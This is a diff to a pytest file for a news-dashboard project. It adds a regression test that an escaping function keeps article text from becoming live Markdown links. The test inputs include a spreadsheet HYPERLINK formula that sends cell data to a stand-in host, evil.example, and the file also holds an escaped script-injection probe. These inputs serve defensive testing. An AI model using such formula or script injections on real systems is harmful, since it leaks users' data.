@@ -5,12 +5,14 @@ from __future__ import annotations
 
 import datetime as dt
 import html
+import re
 
 import pytest
 from conftest import make_article
 
 from strikemap.cluster import cluster, make_event
 from strikemap.dashboard.panels import (
+    WORD_JOINER,
     EvidenceLine,
     date_label,
     disagreements,
@@ -206,6 +208,27 @@ def test_inert_text_reads_back_as_written(text: str) -> None:
     assert html.unescape(inert(text)) == text
 
 
+AUTOLINKED = re.compile(r"(?i)[a-z][a-z0-9+.-]*://|\bwww\.|[\w.+-]@[\w-]")
+"""What GitHub-flavoured Markdown makes a link of by itself, in text as it reads after entities."""
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '=HYPERLINK("http://evil.example/?x="&A1,"click") Drones hit Kyiv',
+        "Read more at HTTPS://news.example/kyiv",
+        "Photos: www.evil.example/podil and WWW.Evil.example",
+        "Write to tips@evil.example or mailto:a@b.example",
+        "ftp://files.example/x",
+    ],
+)
+def test_inert_text_holds_no_address_markdown_would_link(text: str) -> None:
+    """Regression: an address in an article's title became a live link in the event panel."""
+    read = html.unescape(inert(text))
+    assert AUTOLINKED.search(read) is None
+    assert read.replace(WORD_JOINER, "") == text
+
+
 @pytest.mark.parametrize(
     "sentence, match, expected",
     [
@@ -232,7 +255,11 @@ def test_inert_text_reads_back_as_written(text: str) -> None:
             "&#96;&#36;&#123;alert&#40;1&#41;&#125;&#96; <mark>hit</mark> Podil",
         ),
         ("A <b>drone</b> hit", "<b>drone</b>", "A <mark>&lt;b&gt;drone&lt;/b&gt;</mark> hit"),
-        ("Hit [here](http://x)", "[here](http://x)", "Hit <mark>&#91;here&#93;&#40;http&#58;//x&#41;</mark>"),
+        (  # an address in the text is kept from being linked (see test_inert_text_holds_no_address...)
+            "Hit [here](http://x)",
+            "[here](http://x)",
+            "Hit <mark>&#91;here&#93;&#40;http&#58;\u2060//x&#41;</mark>",
+        ),
     ],
 )
 def test_highlight_marks_the_match_and_escapes_the_rest(sentence: str, match: str, expected: str) -> None:
